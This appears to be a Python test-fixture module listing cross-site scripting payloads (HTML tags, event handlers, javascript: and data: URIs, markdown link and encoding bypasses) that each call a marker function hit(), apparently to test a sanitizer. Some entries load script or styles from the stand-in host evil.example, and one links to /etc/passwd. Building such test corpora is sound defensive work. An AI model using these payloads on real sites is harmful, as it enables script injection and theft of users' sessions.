"""What a hostile member writes to have something run: marks of every kind, each calling `hit()`."""

from __future__ import annotations

_TAGS = (
    "<script>hit()</script>", "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=hit()>", "<img/src=x/onerror=hit()>", "<svg onload=hit()>",
    "<svg><script>hit()</script></svg>", "<body onload=hit()>", "<iframe srcdoc='<script>"
    "parent.hit()</script>'>", "<iframe src=javascript:parent.hit()>", "<details open ontoggle="
    "hit()>", "<video><source onerror=hit()></video>", "<audio src=x onerror=hit()>",
    "<input autofocus onfocus=hit()>", "<select autofocus onfocus=hit()>",
    "<textarea autofocus onfocus=hit()>", "<marquee onstart=hit()>", "<object data="
    "javascript:hit()>", "<embed src=javascript:hit()>", "<math><mtext></mtext><mglyph><style>"
    "<img src=x onerror=hit()>", "<form action=javascript:hit()><button>x", "<base href="
    "javascript:hit()//>", "<meta http-equiv=refresh content='0;url=javascript:hit()'>",
    "<link rel=stylesheet href=//evil.example>", "<style>@import '//evil.example';</style>",
    "<template><script>hit()</script></template>", "<noscript><p title='</noscript><img src=x "
    "onerror=hit()>'>", "<a href=javascript:hit()>x</a>", "<a href='java&#x09;script:hit()'>x</a>",
    "<xmp><img src=x onerror=hit()></xmp>", "<isindex type=image src=1 onerror=hit()>",
    "<div style=background:url(javascript:hit())>", "<al-article asset=x onclick=hit()>",
    "<al-slate placement=plc_x>", "<p/onpointerenter=hit()>", "<svg><animate onbegin=hit() "
    "attributeName=x>", "<svg><a xlink:href=javascript:hit()><text>x", "<table background="
    "javascript:hit()>", "<!--><img src=x onerror=hit()>-->",
    "<![CDATA[<img src=x onerror=hit()>]]>",
    "<?xml-stylesheet href=javascript:hit()?>", "<scr<script>ipt>hit()</scr</script>ipt>",
    "</p><img src=x onerror=hit()>", "</textarea><img src=x onerror=hit()>",
    "</pre><img src=x onerror=hit()>", "</title><img src=x onerror=hit()>",
    "</script><img src=x onerror=hit()>", "\"><img src=x onerror=hit()>",
    "'><img src=x onerror=hit()>", "`><img src=x onerror=hit()>", "<img src=`x` onerror=hit()>",
)
_MARKDOWN = (
    "[x](javascript:hit())", "[x](JaVaScRiPt:hit())", "[x](javascript&colon;hit())",
    "[x](&#106;avascript:hit())", "[x](java\tscript:hit())", "[x](<javascript:hit()>)",
    "[x](data:text/html,<script>hit()</script>)", "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:hit())", "[x](file:///etc/passwd)", "[x](//evil.example)",
    "[x](https:javascript:hit())", "[x](https://a.example\" onclick=\"hit())",
    "[x](https://a.example 'x' onclick=hit())", "[x](https://a.example \"\\\" onclick=hit()\")",
    "![x](javascript:hit())", "![x](x\" onerror=\"hit())", "![\" onerror=\"hit()](https://x.example)",
    "<javascript:hit()>", "<https://a.example/\"onclick=hit()>", "[x][1]\n\n[1]: javascript:hit()",
    "[x]: https://a.example \"<img src=x onerror=hit()>\"\n[x]", "```\"onload=hit()\nx\n```",
    "~~~ <img src=x onerror=hit()>\nx\n~~~", "[card: <img/src=x/onerror=hit()>]",
    "[card: \"onclick=hit()]", "[picture: javascript:hit()]",
    "[picture: \"><img/src=x/onerror=hit()>]",
    "&lt;img src=x onerror=hit()&gt;", "&#60;img src=x onerror=hit()&#62;",
    "\\<img src=x onerror=hit()>",
    "`<img src=x onerror=hit()>`", "    <img src=x onerror=hit()>", "{{ hit() }}", "{% x %}",
    "${hit()}", "\u202e<img src=x onerror=hit()>", "<img src=x onerror=hit()\x00>",
    "<\u0130mg src=x onerror=hit()>", "\uff1cscript\uff1ehit()\uff1c/script\uff1e",
    "[x](https://a.example/%22onclick=hit())", "***[x](javascript:hit())***",
    "> <svg onload=hit()>",
    "- <svg onload=hit()>", "1. <svg onload=hit()>", "# <svg onload=hit()>",
    "x\n<svg onload=hit()>\n===", "<svg\nonload=hit()>", "<a\nhref=javascript:hit()>x</a>",
    "https://a.example/<img src=x onerror=hit()>",
)
PAYLOADS = _TAGS + _MARKDOWN
"""Each of them runs, or loads from elsewhere, where it stands unescaped; or tries to get there."""
